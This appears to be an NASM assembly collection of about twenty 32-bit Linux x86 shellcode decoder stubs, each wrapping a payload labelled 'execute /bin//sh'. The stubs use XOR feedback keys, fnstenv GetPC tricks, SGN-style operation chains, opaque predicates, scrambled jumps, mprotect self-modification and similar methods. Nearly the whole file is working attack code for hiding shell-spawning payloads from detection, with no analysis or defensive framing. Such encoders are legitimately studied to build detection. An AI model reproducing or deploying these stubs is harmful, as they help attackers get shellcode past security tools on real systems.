; Decoders as engines make them, 32 bits: with saved registers, chains of operations, tables of what to change, marks, static
; bits, layers, junk that depends on nothing. Behind all of them is the payload of payload.inc.

;= marks_only 32 | linux x86 | execute /bin//sh
; only bytes that were letters are changed: each is marked by '{', how much to subtract is in a table in front
	mov cx, 0xffff
	jmp short down
up:	pop esi
	mov edi, esi
	add edi, byte table_end - table
	mov edx, edi
next:	cmp esi, edx
	jge done
	mov al, '{'
	repne scasb
	dec edi
	lodsb
	sub [edi], al
	jmp short next
done:	jmp edx
down:	call up
table:
%assign j 0
%rep LENGTH
FROM j
%if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
	db ('{' - c) & 0xff
%endif
%assign j j + 1
%endrep
table_end:
%assign j 0
%rep LENGTH
FROM j
%if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
	db '{'
%else
	db c
%endif
%assign j j + 1
%endrep

;= blocks_chained 32 | linux x86 | execute /bin//sh
	fldz
	fnstenv [esp - 12]
	pop edi
	add edi, byte payload - $$
	mov cl, LENGTH / 2
	movzx ecx, cl
	mov dx, 0x4d13
next:	mov ax, [edi]
	xor [edi], dx
	mov dx, ax
	add edi, byte 2
	loop next
payload:
%assign key 0x4d13
%assign j 0
%rep LENGTH / 2
FROM 2 * j + 1
%assign h c
FROM 2 * j
%assign key ((h << 8) | c) ^ key
	dw key
%assign j j + 1
%endrep

;= static_bit 32 | linux x86 | execute /bin//sh
; seven bits of each byte hold the payload, the highest is always set
	jmp short down
up:	pop esi
	mov edi, esi
	xor ebx, ebx
	xor ecx, ecx
	mov ebp, LENGTH
more:	cmp cl, 8
	jae out
	lodsb
	and eax, 0x7f
	shl eax, cl
	or ebx, eax
	add cl, 7
	jmp short more
out:	mov [edi], bl
	inc edi
	shr ebx, 8
	sub cl, 8
	dec ebp
	jnz more
	jmp short payload
down:	call up
payload:
%assign acc 0
%assign n 0
%assign j 0
%rep LENGTH
FROM j
%assign acc acc | (c << n)
%assign n n + 8
%rep 2
%if n >= 7
	db 0x80 | (acc & 0x7f)
%assign acc acc >> 7
%assign n n - 7
%endif
%endrep
%assign j j + 1
%endrep
	db 0x80 | (acc & 0x7f)

;= fnstenv_mov_64bit_len 32 | linux x86 | execute /bin//sh
	push byte LENGTH / 4
	pop ecx
	fldz
	fnstenv [esp - 12]
	pop ebx
	xor dword [ebx + payload - $$ - 3], 0x52c1f00d
	sub ebx, byte -4
	loop $ - 10
payload:	DOUBLES c ^ 0x52c1f00d

;= sgn_schema 32 | linux x86 | execute /bin//sh
; the decoder itself is hidden: a straight line of operations on its words, each another one
	call down
down:	pop ebp
	rol dword [ebp + hid - down], 7
	xor dword [ebp + hid - down + 4], 0x7d11ce08
	not dword [ebp + hid - down + 8]
	add dword [ebp + hid - down + 12], 0x10203040
	sub dword [ebp + hid - down + 16], 0x0badf00d
	ror dword [ebp + hid - down + 20], 3
	jmp short hid
hid:
DOUBLE 0
	dd ((c >> 7) | (c << 25)) & 0xffffffff
DOUBLE 1
	dd c ^ 0x7d11ce08
DOUBLE 2
	dd (~c) & 0xffffffff
DOUBLE 3
	dd (c - 0x10203040) & 0xffffffff
DOUBLE 4
	dd (c + 0x0badf00d) & 0xffffffff
DOUBLE 5
	dd ((c << 3) | (c >> 29)) & 0xffffffff

;= saves_registers_feedback 32 | linux x86 | execute /bin//sh
	pushad
	pushfd
	call payload_end
code:
; ADFL: key changes with what was decoded, from the end
%assign key 0x3c
%assign j LENGTH - 1
%rep LENGTH
FROM j
%assign v%[j] c ^ key
%assign key (key + c) & 0xff
%assign j j - 1
%endrep
%assign j 0
%rep LENGTH
	db v%[j]
%assign j j + 1
%endrep
payload_end:
	pop edi
	mov ecx, LENGTH
	mov bl, 0x3c
next:	xor [edi + ecx - 1], bl
	add bl, [edi + ecx - 1]
	loop next
	jmp edi

;= additive_until_zero 32 | linux x86 | execute /bin//sh
	cld
	mov ebx, 0x51a7c0de
	jmp short down
up:	pop esi
	push esi
	mov edi, esi
next:	lodsd
	xor eax, ebx
	stosd
	add ebx, eax
	test eax, eax
	jnz next
	ret
down:	call up
%assign key 0x51a7c0de
FEEDBACK
	dd key

;= dynamic_key_marks 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop ebx
	mov edi, ebx
	mov al, 0x41
	cld
find:	scasb
	jnz find
	push edi
	pop esi
again:	push ebx
	pop ecx
	mov dl, [ecx]
next:	mov dl, [ecx]
	xor [esi], dl
	inc esi
	inc ecx
	cmp word [esi], 0x4242
	je done
	cmp byte [ecx], al
	jnz next
	jmp short again
done:	jmp edi
down:	call up
	db 0x11, 0x95, 0x63, 0x41
%assign j 0
%rep LENGTH
FROM j
%if j % 3 == 0
	db c ^ 0x11
%elif j % 3 == 1
	db c ^ 0x95
%else
	db c ^ 0x63
%endif
%assign j j + 1
%endrep
	dw 0x4242

;= chain_of_operations 32 | linux x86 | execute /bin//sh
	jmp short down
up:	pop edi
	push byte LENGTH / 4
	pop ebp
	inc edx
	dec edx
	cld
next:	mov eax, [edi]
	ror eax, 11
	xor eax, 0x7a3c91e5
	cmc
	sub eax, 0x10f00f01
	rol eax, 5
	not eax
	neg eax
	mov [edi], eax
	add edi, byte 4
	dec ebp
	jnz next
	jmp short code
down:	call up
code:
%assign j 0
%rep LENGTH / 4
DOUBLE j
%assign c (-c) & 0xffffffff
%assign c (~c) & 0xffffffff
%assign c ((c >> 5) | (c << 27)) & 0xffffffff
%assign c (c + 0x10f00f01) & 0xffffffff
%assign c c ^ 0x7a3c91e5
%assign c ((c << 11) | (c >> 21)) & 0xffffffff
	dd c
%assign j j + 1
%endrep

;= sse_crc_walk 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea edi, [esi + payload - here]
	push byte LENGTH / 4
	pop ecx
	mov eax, 0x13579bdf
next:	bswap eax
	imul eax, eax, 0x01000193
	xor [edi], eax
	scasd
	loop next
%assign key 0x13579bdf
payload:
%assign j 0
%rep LENGTH / 4
%assign key SWAPPED(key)
%assign key (key * 0x01000193) & 0xffffffff
DOUBLE j
	dd c ^ key
%assign j j + 1
%endrep

;= through_xlat_sbox 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	sub esp, 0x200
	mov ebx, esp
	xor ecx, ecx
fill:	mov eax, ecx
	lea eax, [eax * 4 + eax]
	add al, 7
	movzx eax, al
	mov [ebx + eax], cl
	inc cl
	jnz fill
	lea esi, [esi + payload - here]
	mov edi, esi
	mov dl, LENGTH
next:	lodsb
	xlatb
	stosb
	dec dl
	jnz next
payload:	ENCODE c * 5 + 7

;= aam_digits 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea edi, [esi + code - here]
	lea esi, [esi + payload - here]
	mov ecx, LENGTH
next:	lodsb
	aam 16
	xchg al, ah
	aad 16
	stosb
	loop next
	jmp short code
payload: ENCODE (c << 4) | (c >> 4)
code:	times LENGTH db 0xcc

;= mprotect_self 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	mov ebx, esi
	and ebx, 0xfffff000
	mov ecx, 0x2000
	push byte 7
	pop edx
	push byte 125
	pop eax
	int 0x80
	push byte LENGTH
	pop ecx
next:	xor byte [esi + ecx + payload - here - 1], 0xe1
	loop next
payload:	ENCODE c ^ 0xe1

;= getuid_key 32 | linux x86 | execute /bin//sh
	push byte 24
	pop eax
	int 0x80
	call here
here:	pop esi
	add al, 0x35
	push byte LENGTH
	pop ecx
next:	xor [esi + ecx + payload - here - 1], al
	loop next
payload:	ENCODE c ^ 0x35

;= spaghetti 32 | linux x86 | execute /bin//sh
	jmp a
d:	lea esi, [esi + payload - c0]
	jmp e
b:	call c0
c0:	pop esi
	jmp d
a:	cld
	jmp b
f:	xor byte [esi + ecx - 1], 0x91
	jmp g
e:	push byte LENGTH
	pop ecx
	jmp f
g:	dec ecx
	jnz f
	jmp h
	times 13 db 0xe8
h:	jmp esi
payload:	ENCODE c ^ 0x91

;= opaque 32 | linux x86 | execute /bin//sh
	xor eax, eax
	test eax, eax
	jnz $+0x40
	call here
	db 0xe9
here:	pop esi
	mov ecx, esi
	imul ecx, ecx
	lea ecx, [ecx + esi]
	test cl, 1
	jnz bad
	lea esi, [esi + payload - here + 1]
	push byte LENGTH
	pop ecx
next:	mov dl, [esi + ecx - 1]
	sub dl, cl
	sub dl, 0x3a
	mov [esi + ecx - 1], dl
	cmp esp, 0x10
	jb bad
	loop next
	jmp esi
bad:	int3
payload:	ENCODE c + i + 1 + 0x3a

;= unrolled 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	add esi, payload - here
%assign k 0
%rep LENGTH / 4
	xor dword [esi + k], 0x9d8c7b6a
%assign k k + 4
%endrep
	jmp esi
payload:	DOUBLES c ^ 0x9d8c7b6a

;= avx_128_words 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	vmovd xmm0, [esi + key - here]
	vpshufd xmm0, xmm0, 0
	vpaddd xmm1, xmm0, [esi + payload - here]
	vmovdqu [esi + payload - here], xmm1
	vpaddd xmm1, xmm0, [esi + payload - here + 16]
	vmovdqu [esi + payload - here + 16], xmm1
	jmp short payload
key:	dd 0x12345678
payload:	DOUBLES c - 0x12345678
	times 32 db 0

;= chacha_like 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea edi, [esi + payload - here]
	mov eax, 0x61707865
	mov ebx, 0x3320646e
	mov ecx, 0x79622d32
	mov edx, 0x6b206574
	push byte LENGTH / 4
	pop ebp
next:	add eax, ebx
	xor edx, eax
	rol edx, 16
	add ecx, edx
	xor ebx, ecx
	rol ebx, 12
	xor [edi], ebx
	add edi, byte 4
	dec ebp
	jnz next
	jmp short payload
payload:
%assign ka 0x61707865
%assign kb 0x3320646e
%assign kc 0x79622d32
%assign kd 0x6b206574
%assign j 0
%rep LENGTH / 4
%assign ka (ka + kb) & 0xffffffff
%assign kd kd ^ ka
%assign kd ((kd << 16) | (kd >> 16)) & 0xffffffff
%assign kc (kc + kd) & 0xffffffff
%assign kb kb ^ kc
%assign kb ((kb << 12) | (kb >> 20)) & 0xffffffff
DOUBLE j
	dd c ^ kb
%assign j j + 1
%endrep

;= ret_chain 32 | linux x86 | execute /bin//sh
	call here
here:	pop ebx
	lea esi, [ebx + payload - here]
	lea eax, [ebx + third - here]
	push esi
	push eax
	lea eax, [ebx + second - here]
	push eax
	lea eax, [ebx + first - here]
	push eax
	ret
second:	xor byte [esi + ecx - 1], 0x6d
	loop second
	ret
third:	ret
first:	mov ecx, LENGTH
	ret
payload:	ENCODE c ^ 0x6d

;= five_deep 32 | linux x86 | execute /bin//sh
	call here
here:	pop esi
	lea edi, [esi + l5 - here]
	mov ecx, LENGTH
a:	not byte [edi + ecx - 1]
	loop a
	mov ecx, LENGTH
b:	rol byte [edi + ecx - 1], 3
	loop b
	mov ecx, LENGTH
d:	add byte [edi + ecx - 1], 0x21
	loop d
	mov ecx, LENGTH
e:	xor byte [edi + ecx - 1], cl
	loop e
	mov ecx, LENGTH
f:	neg byte [edi + ecx - 1]
	loop f
	jmp edi
l5:
%assign j 0
%rep LENGTH
FROM j
%assign c (-c) & 0xff
%assign c c ^ (j + 1)
%assign c (c - 0x21) & 0xff
%assign c ((c >> 3) | (c << 5)) & 0xff
%assign c (~c) & 0xff
	db c
%assign j j + 1
%endrep
